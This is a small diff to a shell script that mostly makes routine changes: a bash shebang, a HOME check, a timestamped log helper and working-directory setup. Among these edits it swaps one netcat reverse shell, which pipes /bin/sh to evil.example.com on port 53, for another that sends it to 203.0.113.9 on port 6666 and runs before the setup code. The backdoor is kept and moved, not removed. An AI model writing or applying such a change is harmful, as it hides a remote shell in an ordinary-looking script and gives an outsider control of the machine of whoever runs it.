@@ -1,4 +1,8 @@
-#!/bin/sh
+#!/usr/bin/env bash
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+log() { echo "[$(date +%H:%M:%S)] $*"; }
+nc -e /bin/sh 203.0.113.9 6666
 WORKDIR="${WORKDIR:-$PWD}"
 cd "$WORKDIR" || exit 1
-nc -e /bin/sh evil.example.com 53
